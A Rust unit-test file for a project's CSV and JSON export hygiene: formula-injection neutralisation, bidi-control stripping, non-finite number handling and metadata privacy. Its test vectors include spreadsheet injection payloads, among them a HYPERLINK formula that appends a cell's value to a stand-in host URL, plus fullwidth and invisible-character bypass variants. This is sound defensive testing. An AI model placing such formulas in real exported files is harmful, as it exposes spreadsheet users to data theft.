//! Reliability notes test group D (export injection and output hygiene) as unit tests.
//!
//! Vectors: OWASP `CSV_Injection.md` (the `=1+2";=1+2` and `=1+2'" ;,=1+2` examples), Papa
//! Parse `escapeFormulae` test cases (`'+safe` unchanged), the notes' own list (D34–D41).

#![allow(clippy::unwrap_used, clippy::expect_used)] // Tests fail loudly by design.

use madad_core::export::bidi::{isolate_label, strip_bidi_controls};
use madad_core::export::csv::{CsvWriter, neutralize};
use madad_core::export::json::json_number;
use madad_core::export::metadata::{DocumentMetadata, is_safe_metadata_text};

fn csv_line(cells: &[&str]) -> String {
    let mut w = CsvWriter::new();
    w.row(cells);
    let bytes = w.into_bytes();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 BOM");
    String::from_utf8(bytes[3..].to_vec()).unwrap()
}

// D34: formula triggers are neutralised with an apostrophe.
#[test]
fn d34_triggers() {
    for label in [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1",
        "\0x",
        "\u{FF1D}1+1",
        "\u{FF0B}1",
        "\u{FF0D}1",
        "\u{FF20}x",
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
    ] {
        assert!(neutralize(label).starts_with('\''), "{label:?}");
    }
    assert_eq!(csv_line(&["=1+1"]), "'=1+1\r\n");
    assert_eq!(csv_line(&["\n=1"]), "\"'\n=1\"\r\n");
}

// D35: computed numbers stay numeric.
#[test]
fn d35_numbers_stay_numbers() {
    assert_eq!(
        csv_line(&["-5", "-0.25", "+3", "1e3"]),
        "-5,-0.25,+3,1e3\r\n"
    );
}

// D36: the OWASP examples.
#[test]
fn d36_owasp_examples() {
    assert_eq!(csv_line(&["=1+2\";=1+2"]), "\"'=1+2\"\";=1+2\"\r\n");
    assert_eq!(csv_line(&["=1+2'\" ;,=1+2"]), "\"'=1+2'\"\" ;,=1+2\"\r\n");
}

// D37: an apostrophe-led value is left alone (Papa Parse parity).
#[test]
fn d37_apostrophe_led() {
    assert_eq!(neutralize("'+safe"), "'+safe");
    assert_eq!(neutralize("'=danger"), "'=danger");
}

// D38: `{=1+1}` and leading space / NBSP / RLM before `=`.
#[test]
fn d38_array_formula_and_invisible_leads() {
    for label in [
        "{=1+1}",
        " =1+1",
        "\u{00A0}=1+1",
        "\u{200F}=1+1",
        "\u{FEFF}=1",
    ] {
        assert_eq!(neutralize(label), format!("'{label}"), "{label:?}");
    }
}

// D40: bidi overrides and isolates in labels.
#[test]
fn d40_bidi_controls() {
    assert_eq!(strip_bidi_controls("\u{202E}01"), "01");
    assert_eq!(strip_bidi_controls("שכונה \u{2066}א\u{2069}"), "שכונה א");
    assert_eq!(isolate_label("\u{202D}10"), "\u{2068}10\u{2069}");
}

// D41: NaN / ±∞ become null with a reason; strict JSON parsing succeeds.
#[test]
fn d41_json_numbers() {
    let values = [f64::NAN, f64::INFINITY, f64::NEG_INFINITY, -0.0, 1.5];
    let out: Vec<_> = values.iter().map(|&x| json_number(x)).collect();
    let json = serde_json::to_string(&out).unwrap();
    for token in [":NaN", ":Infinity", ":-Infinity", ":-0"] {
        assert!(!json.contains(token), "{token} in {json}");
    }
    let back: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(back[0]["value"], serde_json::Value::Null);
    assert_eq!(back[0]["reason"], "not_a_number");
    assert_eq!(back[1]["reason"], "positive_infinity");
    assert_eq!(back[4]["value"], 1.5);
}

// D42: document metadata carries no user name, file name or path.
#[test]
fn d42_metadata() {
    let m = DocumentMetadata::for_report("C:\\Users\\dana\\Desktop\\volunteers.xlsx");
    let json = serde_json::to_string(&m).unwrap();
    for leak in ["dana", "Users", "volunteers", ".xlsx"] {
        assert!(!json.contains(leak), "{leak}");
    }
    assert!(m.creator.starts_with("Madad "));
    assert!(is_safe_metadata_text("Volunteering 2025"));
    assert!(!is_safe_metadata_text("report for 039337423"));
}
